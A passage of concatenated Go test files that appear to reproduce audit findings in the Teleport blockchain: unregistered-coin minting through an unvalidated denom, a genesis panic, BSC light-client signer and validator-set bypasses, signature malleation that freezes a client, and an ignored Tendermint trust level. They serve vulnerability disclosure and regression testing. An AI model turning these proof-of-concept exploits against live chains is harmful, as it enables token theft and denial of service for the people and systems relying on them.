			amount, baseDenom, icaAddr.String(), amount, receiverVouchers, amount, stranger.Hex(), sdk.AccAddress(stranger.Bytes()).String(), strangerVouchers)
	case receiverVouchers.Int64() == amount && strangerTokens.Sign() == 0:
		fmt.Printf("REPLAY-NOT-REPRODUCED: the vouchers stayed with the 32-byte receiver (%s), nothing minted to %s\n", receiverVouchers, stranger.Hex())
	default:
		fmt.Printf("REPLAY-NOT-REPRODUCED: unexpected state: receiver vouchers %s, escrow delta %s, tokens at truncated address %s\n",
			receiverVouchers, escrowAfter.Sub(escrowBefore), strangerTokens)
	}
}
