// Package directory: x/aggregate/keeper   (package keeper_test, uses KeeperTestSuite)
//
// Finding 2 (C11): MsgConvertERC20.Denom is never validated and MintingEnabled resolves it with
// GetTokenPairID, which treats every string accepted by common.IsHexAddress (40 hex digits, "0x" optional,
// any letter case) as an ERC-20 ADDRESS. Passing the contract's own address (without "0x") as Denom therefore
// "matches" the pair, and ConvertERC20 on an externally-owned pair escrows the tokens and MINTS A COIN OF AN
// UNREGISTERED DENOMINATION (the hex string) instead of the pair's voucher coin.
//
// run: go test -vet=off -count=1 -v -run 'TestKeeperTestSuite/TestZZFinding2' ./x/aggregate/keeper
package keeper_test

import (
	"fmt"
	"math/big"
	"strings"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/ethereum/go-ethereum/common"

	"github.com/teleport-network/teleport/x/aggregate/types"
)

func (suite *KeeperTestSuite) TestZZFinding2() {
	suite.mintFeeCollector = true
	suite.SetupTest()
	defer func() { suite.mintFeeCollector = false }()
	k := suite.app.AggregateKeeper

	// an ordinary external ERC-20 whose address happens to start with a hex letter (6 of 16 addresses do), so
	// that the bare hex string is also a syntactically valid sdk denomination
	var contract common.Address
	for i := 0; i < 200; i++ {
		contract = suite.DeployContract(erc20Name, erc20Symbol, erc20Decimals)
		suite.Commit()
		if c := strings.ToLower(contract.Hex())[2]; c >= 'a' && c <= 'f' {
			break
		}
	}
	suite.Require().NoError(sdk.ValidateDenom(contract.Hex()[2:]))

	pair, err := k.RegisterERC20(suite.ctx, contract)
	suite.Require().NoError(err)
	suite.Require().Equal([]string{types.CreateDenom(contract.String())}, pair.Denoms)
	voucher := pair.Denoms[0]

	holder := sdk.AccAddress(suite.address.Bytes())
	suite.MintERC20Token(contract, suite.address, suite.address, big.NewInt(100))
	suite.Commit()

	// two spellings of the same address: lower case and upper case, both without 0x
	aliasLower := strings.ToLower(contract.Hex()[2:])
	aliasUpper := strings.ToUpper(contract.Hex()[2:])

	results := []string{}
	for _, alias := range []string{aliasLower, aliasUpper} {
		msg := types.NewMsgConvertERC20(sdk.NewInt(10), holder, contract, suite.address, alias)
		if err := msg.ValidateBasic(); err != nil {
			results = append(results, fmt.Sprintf("%s: ValidateBasic refused: %v", alias, err))
			continue
		}
		cctx, write := suite.ctx.CacheContext()
		if _, err := k.ConvertERC20(sdk.WrapSDKContext(cctx), msg); err != nil {
			results = append(results, fmt.Sprintf("%s: refused: %v", alias, err))
			continue
		}
		write()
		results = append(results, fmt.Sprintf("%s: accepted", alias))
	}
	suite.Commit()

	balLower := suite.app.BankKeeper.GetBalance(suite.ctx, holder, aliasLower).Amount
	balUpper := suite.app.BankKeeper.GetBalance(suite.ctx, holder, aliasUpper).Amount
	balVoucher := suite.app.BankKeeper.GetBalance(suite.ctx, holder, voucher).Amount
	supLower := suite.app.BankKeeper.GetSupply(suite.ctx, aliasLower).Amount
	supUpper := suite.app.BankKeeper.GetSupply(suite.ctx, aliasUpper).Amount
	supVoucher := suite.app.BankKeeper.GetSupply(suite.ctx, voucher).Amount
	escrowed, _ := suite.BalanceOf(contract, types.ModuleAddress).(*big.Int)
	registered := k.IsDenomRegistered(suite.ctx, aliasLower) || k.IsDenomRegistered(suite.ctx, aliasUpper)

	if balLower.Int64() == 10 && balUpper.Int64() == 10 && !registered {
		fmt.Printf("REPLAY-CONFIRMED: ConvertERC20 on the external pair {%s, %v} with Denom set to the bare contract address was accepted twice (%s); the module escrowed %s tokens and minted coins of two UNREGISTERED denominations: %s%s (supply %s) and %s%s (supply %s), while the pair's voucher %s was not minted (holder %s, supply %s); IsDenomRegistered(alias)=%v\n",
			contract.Hex(), pair.Denoms, strings.Join(results, "; "), escrowed, balLower, aliasLower, supLower, balUpper, aliasUpper, supUpper, voucher, balVoucher, supVoucher, registered)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: %s; alias balances %s / %s, voucher balance %s, escrowed %s\n",
		strings.Join(results, "; "), balLower, balUpper, balVoucher, escrowed)
}
