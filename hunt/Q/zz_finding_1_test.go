// package directory: x/xibc  (package xibc_test)
//
// C15: genesis initialisation of a state that passed genesis validation must not panic.
// The XIBC client genesis validation (clienttypes.GenesisState.Validate) never looks at
// gs.Relayers; client.InitGenesis hands every entry to Keeper.RegisterRelayers, which
// stores it under []byte(address) in a prefix store: an entry with an empty address makes
// prefix.Store.Set panic ("key is nil") inside InitChain.
package xibc_test

import (
	"encoding/json"
	"fmt"
	"testing"

	abci "github.com/tendermint/tendermint/abci/types"
	"github.com/tendermint/tendermint/libs/log"
	dbm "github.com/tendermint/tm-db"

	"github.com/cosmos/ibc-go/v3/testing/simapp"
	"github.com/tharsis/ethermint/encoding"

	"github.com/teleport-network/teleport/app"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
	"github.com/teleport-network/teleport/x/xibc/types"
)

func TestZZFinding1GenesisRelayerEmptyAddress(t *testing.T) {
	encCfg := encoding.MakeConfig(app.ModuleBasics)
	cdc := encCfg.Marshaler

	// the application's default genesis, with one relayer entry added to the xibc client genesis
	genesis := app.NewDefaultGenesisState()
	gs := types.DefaultGenesisState()
	gs.ClientGenesis.Relayers = []clienttypes.IdentifiedRelayer{{
		Address:   "", // never validated
		Chains:    []string{"eth"},
		Addresses: []string{"0x0000000000000000000000000000000000000001"},
	}}
	genesis[host.ModuleName] = cdc.MustMarshalJSON(gs)

	// 1. genesis validation of every module (what `teleport validate-genesis` runs) accepts the state
	if err := app.ModuleBasics.ValidateGenesis(cdc, encCfg.TxConfig, genesis); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: genesis validation rejects the relayer entry: %v\n", err)
		return
	}

	// 2. InitChain on the validated genesis (no panic recovery: the node cannot start)
	initChain := func(g map[string]json.RawMessage) (recovered interface{}) {
		stateBytes, err := json.Marshal(g)
		if err != nil {
			t.Fatal(err)
		}
		teleport := app.NewTeleport(
			log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{}, app.DefaultNodeHome, 5,
			encCfg, simapp.EmptyAppOptions{},
		)
		defer func() { recovered = recover() }()
		teleport.InitChain(abci.RequestInitChain{
			ChainId:         "teleport_9000-1",
			Validators:      []abci.ValidatorUpdate{},
			ConsensusParams: app.DefaultConsensusParams,
			AppStateBytes:   stateBytes,
		})
		return nil
	}
	// control: the same genesis without the relayer entry initialises
	if r := initChain(app.NewDefaultGenesisState()); r != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the control genesis (no relayer entry) panics as well: %v\n", r)
		return
	}
	recovered := initChain(genesis)
	if recovered != nil {
		fmt.Printf("REPLAY-CONFIRMED: a genesis whose xibc relayer entry has an empty address passes ModuleBasics.ValidateGenesis, InitChain panics: %v\n", recovered)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: InitChain accepted the validated genesis without panic\n")
}
