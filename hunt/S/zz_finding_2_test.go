// package directory: x/xibc/clients/light-clients/bsc/types   (run: go test ./x/xibc/clients/light-clients/bsc/types/ -run TestFinding2SingleValidatorAnchorKeepsOldSet -count=1 -v)
package types_test

// Finding 2 (C09, clause "The validator set changes only to the list carried by the last epoch header, at
// the prescribed offset after it"): the prescribed offset is floor(N/2) blocks after the epoch header, N the
// size of the set in force. For N = 1 the offset is 0: update() (update.go:105-130) stores the list of epoch
// header E and installs it while processing E itself, so block E+1 is already checked against the new list.
// Initialize and UpgradeState (client_state.go:77-104, 106-165) anchor a client at an epoch header E, store
// its list as pending, but never perform the offset-0 switch. A client anchored at E with the one-validator
// set that sealed E keeps that set for a whole epoch (the pending list of E is overwritten by the list of
// E+Epoch before it is ever installed), while a client that followed the same chain through E has switched.
// The retired validator can keep sealing blocks that the anchored client accepts.

import (
	"bytes"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"sort"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/rlp"
	"golang.org/x/crypto/sha3"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	bsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

type f2Key struct {
	priv *ecdsa.PrivateKey
	addr common.Address
}

func f2Keys(n int) []f2Key {
	keys := make([]f2Key, n)
	for i := range keys {
		priv, err := crypto.ToECDSA(crypto.Keccak256([]byte(fmt.Sprintf("finding-2-key-%d", i))))
		if err != nil {
			panic(err)
		}
		keys[i] = f2Key{priv: priv, addr: crypto.PubkeyToAddress(priv.PublicKey)}
	}
	sort.Slice(keys, func(i, j int) bool { return bytes.Compare(keys[i].addr[:], keys[j].addr[:]) < 0 })
	return keys
}

func f2Header(parent *bsctypes.Header, number uint64, key f2Key, difficulty int64, vals []f2Key) bsctypes.Header {
	extra := make([]byte, 32)
	for _, v := range vals {
		extra = append(extra, v.addr[:]...)
	}
	extra = append(extra, make([]byte, 65)...)
	var parentHash common.Hash
	gasLimit, tm := uint64(30000000), uint64(time.Now().Unix())
	if parent != nil {
		parentHash, gasLimit, tm = parent.Hash(), parent.GasLimit, parent.Time+3
	}
	uncle := ethtypes.CalcUncleHash(nil)
	h := bsctypes.Header{
		ParentHash: parentHash[:], UncleHash: uncle[:], Coinbase: key.addr[:],
		Root:   crypto.Keccak256([]byte(fmt.Sprintf("state-root-%d", number))),
		TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32), Bloom: make([]byte, 256),
		Difficulty: big.NewInt(difficulty).Bytes(), Height: clienttypes.NewHeight(0, number),
		GasLimit: gasLimit, GasUsed: 0, Time: tm, Extra: extra, MixDigest: make([]byte, 32), Nonce: make([]byte, 8),
	}
	hasher := sha3.NewLegacyKeccak256()
	if err := rlp.Encode(hasher, []interface{}{
		big.NewInt(56), h.ParentHash, h.UncleHash, h.Coinbase, h.Root, h.TxHash, h.ReceiptHash, h.Bloom, h.Difficulty,
		h.Height.RevisionHeight, h.GasLimit, h.GasUsed, h.Time, h.Extra[:len(h.Extra)-65], h.MixDigest, h.Nonce,
	}); err != nil {
		panic(err)
	}
	sig, err := crypto.Sign(hasher.Sum(nil), key.priv)
	if err != nil {
		panic(err)
	}
	copy(h.Extra[len(h.Extra)-65:], sig)
	return h
}

func f2Vals(keys []f2Key) (out [][]byte) {
	for _, key := range keys {
		out = append(out, append([]byte{}, key.addr[:]...))
	}
	return out
}

func TestFinding2SingleValidatorAnchorKeepsOldSet(t *testing.T) {
	teleport := app.Setup(false, nil)
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: time.Now()})
	k := teleport.XIBCKeeper.ClientKeeper
	const epoch = 200

	keys := f2Keys(4)
	A := keys[0]       // the only validator of the epoch 200..400
	newSet := keys[1:] // the list carried by epoch header 400: B, C, D (A is retired)

	newClient := func(anchor bsctypes.Header, vals []f2Key) (*bsctypes.ClientState, *bsctypes.ConsensusState) {
		return &bsctypes.ClientState{
				Header: anchor, ChainId: 56, Epoch: epoch, BlockInteval: 3, Validators: f2Vals(vals),
				ContractAddress: []byte("0x00"), TrustingPeriod: 999999999,
			},
			&bsctypes.ConsensusState{Timestamp: anchor.Time, Height: anchor.Height, Root: anchor.Root}
	}
	update := func(chain string, h bsctypes.Header) error {
		cctx, write := ctx.CacheContext()
		err := k.UpdateClient(cctx, chain, &h)
		if err == nil {
			write()
		}
		return err
	}
	setOf := func(chain string) string {
		cs, _ := k.GetClientState(ctx, chain)
		var s []string
		for _, v := range cs.(*bsctypes.ClientState).Validators {
			for i, key := range keys {
				if bytes.Equal(v, key.addr[:]) {
					s = append(s, string(rune('A'+i)))
				}
			}
		}
		return fmt.Sprint(s)
	}

	// client X: anchored at epoch block 200 (single validator A, list [A]) and fed every header up to 400
	h200 := f2Header(nil, 200, A, 2, keys[:1])
	cs, cons := newClient(h200, keys[:1])
	if err := k.CreateClient(ctx, "bsc-f2x", cs, cons); err != nil {
		t.Fatal(err)
	}
	parent := h200
	for n := uint64(201); n <= 400; n++ {
		var vals []f2Key
		if n == 400 {
			vals = newSet
		}
		h := f2Header(&parent, n, A, 2, vals)
		if err := update("bsc-f2x", h); err != nil {
			t.Fatalf("client X, header %d: %v", n, err)
		}
		parent = h
	}
	h400 := parent

	// client Y: created at epoch block 400 with the set that was in force for (and sealed) block 400
	cs, cons = newClient(h400, keys[:1])
	if err := k.CreateClient(ctx, "bsc-f2y", cs, cons); err != nil {
		t.Fatal(err)
	}
	// client Z: an older client upgraded to the same anchor
	cs, cons = newClient(h200, keys[:1])
	if err := k.CreateClient(ctx, "bsc-f2z", cs, cons); err != nil {
		t.Fatal(err)
	}
	cs, cons = newClient(h400, keys[:1])
	if err := k.UpgradeClient(ctx, "bsc-f2z", cs, cons); err != nil {
		t.Fatal(err)
	}

	setX, setY, setZ := setOf("bsc-f2x"), setOf("bsc-f2y"), setOf("bsc-f2z")

	// the retired validator A seals 401, 402, ... on top of block 400 (in turn for a one-element set)
	errX := update("bsc-f2x", f2Header(&h400, 401, A, 2, nil))
	acceptedY, acceptedZ := 0, 0
	parent = h400
	for n := uint64(401); n < 600; n++ {
		h := f2Header(&parent, n, A, 2, nil)
		if update("bsc-f2y", h) != nil {
			break
		}
		acceptedY++
		if update("bsc-f2z", h) == nil {
			acceptedZ++
		}
		parent = h
	}

	if errX != nil && acceptedY > 0 {
		fmt.Printf("REPLAY-CONFIRMED: after epoch header 400 (list [B C D], offset floor(1/2)=0) the client that followed the chain has set %s and refuses block 401 sealed by retired A (%v); the client created at 400 has set %s and accepted %d blocks (401..%d) sealed by A; the client upgraded to 400 has set %s and accepted %d\n",
			setX, f2Short(errX), setY, acceptedY, 400+acceptedY, setZ, acceptedZ)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: sets X %s Y %s Z %s, X error %v, Y accepted %d, Z accepted %d\n", setX, setY, setZ, errX, acceptedY, acceptedZ)
	}
}

func f2Short(err error) string {
	s := err.Error()
	if i := bytes.IndexByte([]byte(s), '['); i > 0 {
		s = s[:i]
	}
	return s
}
