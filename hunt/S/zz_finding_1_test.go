// package directory: x/xibc/clients/light-clients/bsc/types   (run: go test ./x/xibc/clients/light-clients/bsc/types/ -run TestFinding1RecentSignerWindowWraps -count=1 -v)
package types_test

// Finding 1 (C09, clause "has not sealed any of the last floor(N/2) blocks"):
// verifySeal (header.go:183-190) compares `seen > number-limit` in uint64. While the block number is
// smaller than limit = N/2+1 the subtraction wraps around to a number close to 2^64, no stored record is
// ever "greater", and the recent-signer check is switched off. A BSC client anchored at block 0 (or at an
// epoch block E < N/2, i.e. Epoch <= N/2) therefore accepts a run of consecutive blocks all sealed by ONE
// validator: with 21 validators the sealer of block 0 also seals blocks 1..10.

import (
	"bytes"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"sort"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/rlp"
	"golang.org/x/crypto/sha3"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	bsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

type f1Key struct {
	priv *ecdsa.PrivateKey
	addr common.Address
}

func f1Keys(n int) []f1Key {
	keys := make([]f1Key, n)
	for i := range keys {
		priv, err := crypto.ToECDSA(crypto.Keccak256([]byte(fmt.Sprintf("finding-1-key-%d", i))))
		if err != nil {
			panic(err)
		}
		keys[i] = f1Key{priv: priv, addr: crypto.PubkeyToAddress(priv.PublicKey)}
	}
	sort.Slice(keys, func(i, j int) bool { return bytes.Compare(keys[i].addr[:], keys[j].addr[:]) < 0 })
	return keys
}

// f1Header builds a structurally valid header on top of parent and seals it with key (Parlia seal hash, chain id 56).
func f1Header(parent *bsctypes.Header, number uint64, key f1Key, difficulty int64, vals []f1Key) bsctypes.Header {
	extra := make([]byte, 32)
	for _, v := range vals {
		extra = append(extra, v.addr[:]...)
	}
	extra = append(extra, make([]byte, 65)...)
	var parentHash common.Hash
	gasLimit, tm := uint64(30000000), uint64(time.Now().Unix())
	if parent != nil {
		parentHash, gasLimit, tm = parent.Hash(), parent.GasLimit, parent.Time+3
	}
	uncle := ethtypes.CalcUncleHash(nil)
	h := bsctypes.Header{
		ParentHash: parentHash[:], UncleHash: uncle[:], Coinbase: key.addr[:],
		Root:   crypto.Keccak256([]byte(fmt.Sprintf("state-root-%d", number))),
		TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32), Bloom: make([]byte, 256),
		Difficulty: big.NewInt(difficulty).Bytes(), Height: clienttypes.NewHeight(0, number),
		GasLimit: gasLimit, GasUsed: 0, Time: tm, Extra: extra, MixDigest: make([]byte, 32), Nonce: make([]byte, 8),
	}
	hasher := sha3.NewLegacyKeccak256()
	if err := rlp.Encode(hasher, []interface{}{
		big.NewInt(56), h.ParentHash, h.UncleHash, h.Coinbase, h.Root, h.TxHash, h.ReceiptHash, h.Bloom, h.Difficulty,
		h.Height.RevisionHeight, h.GasLimit, h.GasUsed, h.Time, h.Extra[:len(h.Extra)-65], h.MixDigest, h.Nonce,
	}); err != nil {
		panic(err)
	}
	sig, err := crypto.Sign(hasher.Sum(nil), key.priv)
	if err != nil {
		panic(err)
	}
	copy(h.Extra[len(h.Extra)-65:], sig)
	return h
}

func TestFinding1RecentSignerWindowWraps(t *testing.T) {
	teleport := app.Setup(false, nil)
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: time.Now()})
	k := teleport.XIBCKeeper.ClientKeeper

	// run(anchor, epoch, n): client with n validators anchored at epoch block `anchor` sealed by validator A;
	// A then tries to seal every following block alone. Returns the numbers accepted and the first one refused.
	run := func(chain string, anchorNum, epoch uint64, n int) (accepted []uint64, refusedAt uint64, refusal error) {
		keys := f1Keys(n)
		A := keys[0]
		var vals [][]byte
		for _, key := range keys {
			vals = append(vals, append([]byte{}, key.addr[:]...))
		}
		anchor := f1Header(nil, anchorNum, A, 2, keys)
		cs := &bsctypes.ClientState{
			Header: anchor, ChainId: 56, Epoch: epoch, BlockInteval: 3, Validators: vals,
			ContractAddress: []byte("0x00"), TrustingPeriod: 999999999,
		}
		cons := &bsctypes.ConsensusState{Timestamp: anchor.Time, Height: anchor.Height, Root: anchor.Root}
		if err := k.CreateClient(ctx, chain, cs, cons); err != nil {
			t.Fatalf("create client: %v", err)
		}
		parent := anchor
		for number := anchorNum + 1; number <= anchorNum+uint64(n); number++ {
			diff := int64(1) // out of turn
			if keys[number%uint64(n)].addr == A.addr {
				diff = 2 // in turn
			}
			var epochVals []f1Key
			if number%epoch == 0 {
				epochVals = keys
			}
			h := f1Header(&parent, number, A, diff, epochVals)
			cctx, write := ctx.CacheContext() // a failing transaction leaves no state behind
			if err := k.UpdateClient(cctx, chain, &h); err != nil {
				return accepted, number, err
			}
			write()
			root, _ := k.GetClientConsensusState(ctx, chain, h.Height)
			if root == nil || !bytes.Equal(root.GetRoot(), h.Root) {
				t.Fatalf("consensus state of %d not stored", number)
			}
			accepted = append(accepted, number)
			parent = h
		}
		return accepted, 0, nil
	}

	// (a) 21 validators, epoch 200, client anchored at block 0: floor(21/2) = 10, A sealed block 0
	accA, refA, errA := run("bsc-f1a", 0, 200, 21)
	// (b) 9 validators, epoch 2, client anchored at epoch block 2: floor(9/2) = 4, A sealed block 2
	accB, refB, errB := run("bsc-f1b", 2, 2, 9)
	// control: 21 validators, epoch 200, anchored at block 200: the very next block by A must be refused
	accC, refC, errC := run("bsc-f1c", 200, 200, 21)

	if len(accA) > 0 || len(accB) > 0 {
		fmt.Printf("REPLAY-CONFIRMED: one validator sealed consecutive accepted blocks: (a) N=21 anchored at 0: sealer of block 0 also sealed %v, first refusal at %d (%v); (b) N=9 epoch 2 anchored at 2: sealer of block 2 also sealed %v, first refusal at %d (%v); control anchored at 200: accepted %v, refused %d (%v)\n",
			accA, refA, errShort(errA), accB, refB, errShort(errB), accC, refC, errShort(errC))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the sealer of the anchor block was refused at block %d (%v) and %d (%v)\n", refA, errShort(errA), refB, errShort(errB))
	}
}

func errShort(err error) string {
	if err == nil {
		return "<nil>"
	}
	s := err.Error()
	if i := bytes.IndexByte([]byte(s), '['); i > 0 {
		s = s[:i]
	}
	return s
}
