// package directory: x/xibc/clients/light-clients/bsc/types   (run: go test ./x/xibc/clients/light-clients/bsc/types/ -run TestFinding3MalleatedSealAccepted -count=1 -v)
package types_test

// Finding 3 (C09, clauses "accepts only the next block" / "sealed by the account named as its coinbase" /
// "direct child of its current head"): ecrecover (header.go:210-226) hands the 65 seal bytes to
// crypto.Ecrecover, which accepts both ECDSA encodings (r, s, v) and (r, n-s, v^1) of a signature. The seal
// is excluded from the seal hash but included in the block hash, so anybody who sees the genuine block n can,
// WITHOUT the validator's key, derive a second header n* that passes every check of the client but has a
// different block hash. Once a relayer has submitted n*, the head of the client is a header that is no block
// of the BSC chain: the genuine block n+1 (parent hash = hash of n) is refused as "unknown ancestor", and no
// validator will ever seal a child of n*, so the client is frozen until a governance UpgradeClient.

import (
	"bytes"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"sort"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/rlp"
	"golang.org/x/crypto/sha3"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	bsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

type f3Key struct {
	priv *ecdsa.PrivateKey
	addr common.Address
}

func f3Keys(n int) []f3Key {
	keys := make([]f3Key, n)
	for i := range keys {
		priv, err := crypto.ToECDSA(crypto.Keccak256([]byte(fmt.Sprintf("finding-3-key-%d", i))))
		if err != nil {
			panic(err)
		}
		keys[i] = f3Key{priv: priv, addr: crypto.PubkeyToAddress(priv.PublicKey)}
	}
	sort.Slice(keys, func(i, j int) bool { return bytes.Compare(keys[i].addr[:], keys[j].addr[:]) < 0 })
	return keys
}

func f3Header(parent *bsctypes.Header, number uint64, key f3Key, difficulty int64, vals []f3Key) bsctypes.Header {
	extra := make([]byte, 32)
	for _, v := range vals {
		extra = append(extra, v.addr[:]...)
	}
	extra = append(extra, make([]byte, 65)...)
	var parentHash common.Hash
	gasLimit, tm := uint64(30000000), uint64(time.Now().Unix())
	if parent != nil {
		parentHash, gasLimit, tm = parent.Hash(), parent.GasLimit, parent.Time+3
	}
	uncle := ethtypes.CalcUncleHash(nil)
	h := bsctypes.Header{
		ParentHash: parentHash[:], UncleHash: uncle[:], Coinbase: key.addr[:],
		Root:   crypto.Keccak256([]byte(fmt.Sprintf("state-root-%d", number))),
		TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32), Bloom: make([]byte, 256),
		Difficulty: big.NewInt(difficulty).Bytes(), Height: clienttypes.NewHeight(0, number),
		GasLimit: gasLimit, GasUsed: 0, Time: tm, Extra: extra, MixDigest: make([]byte, 32), Nonce: make([]byte, 8),
	}
	hasher := sha3.NewLegacyKeccak256()
	if err := rlp.Encode(hasher, []interface{}{
		big.NewInt(56), h.ParentHash, h.UncleHash, h.Coinbase, h.Root, h.TxHash, h.ReceiptHash, h.Bloom, h.Difficulty,
		h.Height.RevisionHeight, h.GasLimit, h.GasUsed, h.Time, h.Extra[:len(h.Extra)-65], h.MixDigest, h.Nonce,
	}); err != nil {
		panic(err)
	}
	sig, err := crypto.Sign(hasher.Sum(nil), key.priv)
	if err != nil {
		panic(err)
	}
	copy(h.Extra[len(h.Extra)-65:], sig)
	return h
}

func TestFinding3MalleatedSealAccepted(t *testing.T) {
	teleport := app.Setup(false, nil)
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: time.Now()})
	k := teleport.XIBCKeeper.ClientKeeper

	keys := f3Keys(3)
	var vals [][]byte
	for _, key := range keys {
		vals = append(vals, append([]byte{}, key.addr[:]...))
	}
	anchor := f3Header(nil, 200, keys[0], 2, keys)
	cs := &bsctypes.ClientState{
		Header: anchor, ChainId: 56, Epoch: 200, BlockInteval: 3, Validators: vals,
		ContractAddress: []byte("0x00"), TrustingPeriod: 999999999,
	}
	cons := &bsctypes.ConsensusState{Timestamp: anchor.Time, Height: anchor.Height, Root: anchor.Root}
	if err := k.CreateClient(ctx, "bsc-f3", cs, cons); err != nil {
		t.Fatal(err)
	}
	update := func(h bsctypes.Header) error {
		cctx, write := ctx.CacheContext()
		err := k.UpdateClient(cctx, "bsc-f3", &h)
		if err == nil {
			write()
		}
		return err
	}

	// the genuine chain: block 201 sealed by validator 1 (out of turn), block 202 by validator 2 (out of turn)
	b201 := f3Header(&anchor, 201, keys[1], 1, nil)
	b202 := f3Header(&b201, 202, keys[2], 1, nil)

	// the relayer's variant of block 201: same fields, seal (r, s, v) replaced by (r, n-s, v^1); no key needed
	v201 := b201
	v201.Extra = append([]byte{}, b201.Extra...)
	seal := v201.Extra[len(v201.Extra)-65:]
	s := new(big.Int).SetBytes(seal[32:64])
	s.Sub(crypto.S256().Params().N, s)
	copy(seal[32:64], common.LeftPadBytes(s.Bytes(), 32))
	seal[64] ^= 1

	errVariant := update(v201)
	errChild := update(b202)
	head, _ := k.GetClientState(ctx, "bsc-f3")
	headHash := head.(*bsctypes.ClientState).Header.Hash()

	if errVariant == nil && errChild != nil && headHash != b201.Hash() {
		fmt.Printf("REPLAY-CONFIRMED: header 201 with a seal derived without the validator's key was accepted (hash %s, genuine block 201 has %s); the genuine block 202 is now refused: %s\n",
			headHash.Hex()[:18], b201.Hash().Hex()[:18], f3Short(errChild))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: variant header: %v, genuine child: %v\n", errVariant, errChild)
	}
}

func f3Short(err error) string {
	s := err.Error()
	if i := bytes.IndexByte([]byte(s), '['); i > 0 {
		s = s[:i]
	}
	return s
}
