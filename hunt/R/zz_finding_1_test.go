// package directory: x/xibc/clients/light-clients/tendermint/types
package types_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	tmtypes "github.com/tendermint/tendermint/types"

	types "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	commitmenttypes "github.com/teleport-network/teleport/x/xibc/core/commitment/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
	xibctestingmock "github.com/teleport-network/teleport/x/xibc/testing/mock"
)

// C07: "accepts a header only if ... validators holding more than the trust level of that
// [trusted] set (and more than two thirds of the header's own set) signed it".
//
// A client whose trust level is 9/10 (accepted by ClientState.Validate and hence by the
// create/upgrade/toggle proposals) accepts, through Keeper.UpdateClient, a header at
// trusted height + 1 that only 3 of the 4 equally weighted trusted validators (75 %) signed.
// The very same signatures on a header at trusted height + 2 are refused for lack of trust.
func TestZZFinding1TrustLevelIgnoredForAdjacentHeader(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 1)
	chain := coord.GetChain(xibctesting.GetChainID(0))
	ctx := chain.GetContext()
	now := ctx.BlockTime()
	k := chain.App.XIBCKeeper.ClientKeeper

	const counterparty = "counterparty"

	// four validators of equal power; signers ordered like the validator set
	byAddr := map[string]tmtypes.PrivValidator{}
	var vals []*tmtypes.Validator
	for i := 0; i < 4; i++ {
		pv := xibctestingmock.NewPV()
		pk, err := pv.GetPubKey()
		require.NoError(t, err)
		vals = append(vals, tmtypes.NewValidator(pk, 10))
		byAddr[string(pk.Address())] = pv
	}
	valSet := tmtypes.NewValidatorSet(vals)
	var ordered []tmtypes.PrivValidator
	for _, v := range valSet.Validators {
		ordered = append(ordered, byAddr[string(v.Address)])
	}
	threeOfFour := ordered[:3] // 30 of 40 = 75 %: more than 2/3, less than 9/10

	trusted := clienttypes.NewHeight(0, 10)
	cs := types.NewClientState(
		counterparty, types.Fraction{Numerator: 9, Denominator: 10},
		time.Hour*24*14, time.Hour*24*21, time.Second*10,
		trusted, commitmenttypes.GetSDKSpecs(), commitmenttypes.NewMerklePrefix([]byte("xibc")), 0,
	)
	require.NoError(t, cs.Validate(), "the trust level 9/10 passes the code's own validation")
	consState := types.NewConsensusState(now.Add(-time.Minute), []byte("app_hash_at_10"), valSet.Hash())
	require.NoError(t, k.CreateClient(ctx, counterparty, cs, consState))

	// control: NON-adjacent header (10 -> 12), 75 % of the trusted set signed: refused
	far := chain.CreateTMClientHeader(counterparty, 12, trusted, now.Add(-20*time.Second), valSet, valSet, threeOfFour)
	require.NoError(t, far.ValidateBasic())
	cctx, _ := ctx.CacheContext()
	errFar := k.UpdateClient(cctx, counterparty, far)

	// adjacent header (10 -> 11), the same 75 % signed
	adj := chain.CreateTMClientHeader(counterparty, 11, trusted, now.Add(-30*time.Second), valSet, valSet, threeOfFour)
